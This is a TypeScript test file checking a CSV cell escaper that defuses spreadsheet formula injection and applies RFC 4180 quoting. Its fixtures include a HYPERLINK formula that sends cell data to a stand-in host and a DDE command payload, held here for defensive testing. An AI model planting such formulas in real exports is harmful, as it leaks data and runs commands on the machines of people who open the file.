/**
 * CSV cells (src/http/csv-cell.ts): text a spreadsheet would run as a formula is prefixed with `'`
 * (OWASP, CSV injection) and otherwise kept; numbers the platform writes stay numbers; then RFC 4180
 * quoting. Every CSV the platform writes goes through toCsv, so the table is checked through it too.
 */
import test from 'ava';
import { csvField, type CsvCell } from '../src/http/csv-cell.js';
import { toCsv } from '../src/http/csv.js';

const CELLS: [title: string, cell: CsvCell, field: string][] = [
  // The four rule names.
  [
    'a HYPERLINK that sends the sheet away',
    '=HYPERLINK("http://evil.example/?d="&A2,"open")',
    `"'=HYPERLINK(""http://evil.example/?d=""&A2,""open"")"`,
  ],
  ['a DDE command', "+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"],
  ['arithmetic starting with minus', '-2+3', "'-2+3"],
  ['an @ function', '@SUM(1,1)', `"'@SUM(1,1)"`],
  // A person renamed to a formula, and the two whitespace starts OWASP names.
  ['a person renamed to a formula', '=1+1', "'=1+1"],
  ['a leading tab', '\t=1+1', "'\t=1+1"],
  ['a leading carriage return (then quoted: it is a line break)', '\r=1+1', `"'\r=1+1"`],
  // Harmless text is kept as it is.
  ['a plain name', 'Ada Lovelace', 'Ada Lovelace'],
  ['an = that does not start the cell', 'a=b', 'a=b'],
  ['a zone list', 'Europe/Berlin (schedule); UTC (utc)', 'Europe/Berlin (schedule); UTC (utc)'],
  ['a date key', '2026-03-28', '2026-03-28'],
  ['an empty string', '', ''],
  ['a comma is quoted', 'x,y', '"x,y"'],
  ['quotes are doubled', 'say "hi"', '"say ""hi"""'],
  ['a line break is quoted', 'line\nbreak', '"line\nbreak"'],
  // Numbers and booleans the platform writes as values are not text: a negative count stays a number.
  ['a negative number', -2, '-2'],
  ['a fraction', 0.33, '0.33'],
  ['zero', 0, '0'],
  ['a boolean', true, 'true'],
  ['null is an empty field', null, ''],
];

for (const [title, cell, field] of CELLS) {
  test(`csv cell: ${title}`, (t) => {
    t.is(csvField(cell), field);
    t.is(toCsv(['value'], [[cell]]), `value\r\n${field}\r\n`, 'toCsv writes every cell through csvField');
  });
}

test('a spreadsheet reading the field back gets the value with the quote in front, nothing else changed', (t) => {
  const name = '=HYPERLINK("http://evil.example/?d="&A2,"open")';
  const field = csvField(name);
  const unquoted = field.slice(1, -1).replaceAll('""', '"');
  t.is(unquoted, `'${name}`);
});
